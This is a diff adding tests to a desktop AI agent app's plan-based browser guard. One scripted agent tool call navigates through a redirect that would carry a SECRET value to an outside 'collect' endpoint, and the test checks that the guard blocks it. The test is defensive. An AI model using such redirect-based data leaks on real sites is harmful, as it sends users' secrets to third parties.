@@ -14,9 +14,11 @@ from desktop.calls.permissions import Mode, PermissionSettings, Risk, Rule, Tool
 from desktop.calls.plans import PLAN_TOOL, PlanBook
 from desktop.system.audit_export import decision_text, reason_text
 from desktop.workspace import Workspace
-from tests.support.model_server import ScriptedModelServer, text_reply, tool_reply
+from tests.support.model_server import ScriptedModelServer, browser_use, text_reply, tool_reply
 from tests.support.plan_sites import (
     DOCS,
+    ELSEWHERE,
+    SECRET,
     SETTINGS,
     PlanSites,
     documentation_task,
@@ -226,3 +228,41 @@ def test_a_plan_expires_after_its_minutes() -> None:
     assert book.current(7) is None
     on_plan = _call("browser", "left_click", Risk.CHANGE, DOC)
     assert _verdict(book, on_plan, Mode.CHANGES)[:2] == ("ask", "mode")
+
+
+@browser
+def test_a_plan_site_redirecting_elsewhere_is_stopped_and_what_the_person_allows_goes_through(
+    planning: Workspace, model_server: ScriptedModelServer, sites: PlanSites
+) -> None:
+    bounce = sites.docs_url("redirect?to=" + sites.elsewhere_url(f"collect?q={SECRET}"))
+    replies = [
+        tool_reply(plan_use([DOCS])),
+        tool_reply(browser_use("navigate", url=bounce)),  # in the plan: runs unasked
+        tool_reply(browser_use("navigate", url=sites.elsewhere_url("plan/mirror.html"))),
+        text_reply("Done."),
+    ]
+    approver = asyncio.run(run_task(planning, sites, model_server, replies))
+
+    # The redirect's hop to the other site never left the browser...
+    assert not any("collect" in path for path in sites.elsewhere.paths())
+    assert any(path.startswith("/redirect") for path in sites.docs.paths())
+    finished = planning.store.messages(1)[4].content[0]["deskhand_card"]
+    assert f"Stopped 1 page outside the plan ({ELSEWHERE})" in finished["notices"]
+    # ... while the navigation the person allowed, outside the plan, did.
+    assert [call.action for call in approver.asked] == ["update_plan", "navigate"]
+    assert "/plan/mirror.html" in sites.elsewhere.paths()
+
+
+def test_the_apps_browser_holds_a_chats_tabs_to_its_plan(planning: Workspace) -> None:
+    pool = planning.toolbox.browser_pool  # built from the settings, as the app builds it
+    assert pool is not None and pool.guard.hold("7") is None  # no plan: the URL policy decides
+    proposal = _call(PLAN_TOOL, PLAN_TOOL, Risk.CHANGE, None).model_copy(
+        update={"input": {"domains": ["docs.example"], "approach": ["Read"]}}
+    )
+    planning.plans.approve(proposal, None)
+    held = pool.guard.hold("7")
+    assert held is not None and held("docs.example") and not held("elsewhere.example")
+    planning.plans.allowed_beyond(_call("browser", "navigate", Risk.CHANGE, AWAY))
+    assert held("docs.example") and pool.guard.hold("7")("elsewhere.example")  # type: ignore[misc]
+    planning.plans.end(7)
+    assert pool.guard.hold("7") is None
